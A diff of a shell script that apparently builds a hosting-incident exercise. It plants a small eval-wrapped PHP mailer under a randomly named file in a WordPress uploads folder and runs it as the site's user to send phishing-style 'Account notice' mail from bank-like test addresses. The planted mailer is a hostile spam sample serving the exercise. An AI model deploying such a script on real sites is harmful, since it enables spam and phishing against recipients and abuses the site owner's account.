@@ -1,18 +1,18 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
-# A mailer was dropped into a site's upload folder; it sends through PHP's mail() as the site's own user.
+# A mailer lies in a site's upload folder and runs from a shell, without a web request, as the site's own user.
 
+incident_needs() { php_marks=log; } # else nothing tells which file it is
 play_incident() {
-  true_cause=website-hacked true_domain=$site
-  true_script=/var/www/vhosts/$site/httpdocs/wp-content/uploads/20$(($(roll 9) + 17))/0$(($(roll 9) + 1))/$(pick gallery thumb lib cfg)$(roll 100).php
-  mkdir -p "$(dirname "$true_script")"
-  cat >"$true_script" <<'END'
+  local n id script; honest_traffic
+  script=$(hidden_place "$culprit")/$(odd_name).php
+  source_is website-hacked "$culprit" '' "$script" ''
+  drop "$script" <<'END'
 <?php
 eval('mail($argv[1], $argv[3], "Click here\n", "From: $argv[4]\r\nMessage-ID: <$argv[2]>\r\n");');
 END
-  honest_traffic
-  local n id
-  for n in $(seq 60); do
-    id=$(new_id).$n@$site; spam_ids+=("$id")
-    as_user "$site_uid" php "$true_script" "$(stranger)" "$id" "Account notice $(roll 99999)" "$(pick service support)@$(pick bank.test parcel.test prize.test)"
+  for n in $(seq $((35 + $(roll 25)))); do
+    id=$(new_id).$n@$culprit; mark 1 "$id"
+    as_user "$culprit_uid" php "$script" "$(stranger)" "$id" "Account notice $(roll 99999)" "$(bank)"
+    between
   done
 }
